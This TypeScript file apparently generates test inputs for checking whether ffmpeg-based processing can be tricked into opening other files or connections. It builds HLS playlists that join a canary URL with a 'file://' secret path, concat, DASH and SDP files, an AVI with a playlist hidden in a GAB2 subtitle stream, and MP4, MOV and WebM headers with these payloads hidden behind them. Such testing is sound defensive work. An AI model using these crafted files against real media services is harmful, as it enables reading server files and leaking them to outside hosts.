/** Files that once made ffmpeg open other files or connections, each with what it reaches for. */
export function attackFiles(secretPath: string, canaryUrl: string): Record<string, Buffer> {
  const playlist = (...lines: string[]) =>
    ['#EXTM3U', '#EXT-X-MEDIA-SEQUENCE:0', ...lines, '#EXT-X-ENDLIST', ''].join('\n')
  const hls = playlist('#EXTINF:10.0,', `${canaryUrl}/segment.ts`)
  const local = playlist('#EXTINF:10.0,', `concat:${canaryUrl}/head|file://${secretPath}`)
  const texts: Record<string, string> = {
    'an HLS playlist of addresses': hls,
    'an HLS playlist of files': local,
    'a concat script': `ffconcat version 1.0\nfile '${secretPath}'\nfile '${canaryUrl}/a.mp4'\n`,
    'a DASH manifest': dash(canaryUrl),
    'a session description': `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 9 RTP/AVP 96\na=rtpmap:96 H264/90000\n`,
    'a subtitle that names a video': `[Script Info]\n; ${secretPath}\n#EXTM3U\n#EXTINF:1,\nfile://${secretPath}\n`,
  }
  return {
    ...Object.fromEntries(Object.entries(texts).map(([name, text]) => [name, Buffer.from(text)])),
    'an AVI with a playlist for subtitles': aviWithSubtitle(local),
    'an XBIN with a playlist behind it': Buffer.concat([xbinHead(), Buffer.from(local)]),
  }
}

const dash = (url: string) => `<?xml version="1.0"?>
<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT10S" minBufferTime="PT1S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011">
<Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1" width="16" height="16"><BaseURL>${url}/video.mp4</BaseURL>
<SegmentBase indexRange="0-10"/></Representation></AdaptationSet></Period></MPD>
`

/** Both sorts of videos, with something else where their boxes should be. */
export function disguised(attack: Buffer): Record<string, Buffer> {
  const type = Buffer.from('\0\0\0\x18ftypmp42\0\0\0\0mp42isom', 'latin1')
  const doctype = Buffer.from([0x42, 0x82, 0x84, ...Buffer.from('webm')])
  const ebml = Buffer.concat([Buffer.from([0x1a, 0x45, 0xdf, 0xa3, 0x80 | doctype.length]), doctype])
  const unknownSegment = Buffer.from('18538067ff', 'hex')
  return {
    'behind the start of an MP4': Buffer.concat([type, attack]),
    'in the data of an MP4': Buffer.concat([type, box('mdat', attack), box('moov', box('udta', attack))]),
    'behind the start of a MOV': Buffer.concat([
      Buffer.from('\0\0\0\x14ftypqt  \0\0\0\0qt  ', 'latin1'),
      box('mdat', attack),
    ]),
    'behind the start of a WebM': Buffer.concat([ebml, attack]),
    'in the segment of a WebM': Buffer.concat([ebml, unknownSegment, attack]),
  }
}

/** A box of an MP4. */
export function box(type: string, ...parts: Buffer[]): Buffer {
  const head = Buffer.alloc(8)
  head.writeUInt32BE(8 + parts.reduce((sum, part) => sum + part.length, 0))
  head.write(type, 4, 'latin1')
  return Buffer.concat([head, ...parts])
}

function chunk(id: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8)
  head.write(id, 0, 'latin1')
  head.writeUInt32LE(data.length, 4)
  return Buffer.concat([head, data, Buffer.alloc(data.length % 2)])
}

const list = (type: string, ...parts: Buffer[]) => chunk('LIST', Buffer.concat([Buffer.from(type), ...parts]))

/** A text stream of the sort GAB2, which the reader of AVI hands to whatever reader the text asks for. */
function aviWithSubtitle(text: string): Buffer {
  const header = Buffer.alloc(56)
  header.writeUInt32LE(1, 24)
  const stream = Buffer.alloc(56)
  stream.write('txts', 0, 'latin1')
  const gab2 = Buffer.concat([
    Buffer.from('GAB2\0\x02\0\0\0\0\0\0\0\x04\0', 'latin1'),
    lengthOf(text),
    Buffer.from(text),
  ])
  const streams = list('strl', chunk('strh', stream), chunk('strf', Buffer.alloc(0)))
  const video = list('movi', chunk('00tx', gab2))
  return chunk(
    'RIFF',
    Buffer.concat([Buffer.from('AVI '), list('hdrl', chunk('avih', header), streams), video]),
  )
}

function lengthOf(text: string): Buffer {
  const length = Buffer.alloc(4)
  length.writeUInt32LE(Buffer.byteLength(text))
  return length
}

const xbinHead = () => Buffer.from('XBIN\x1a\x20\0\x0f\0\x10\x04', 'latin1')
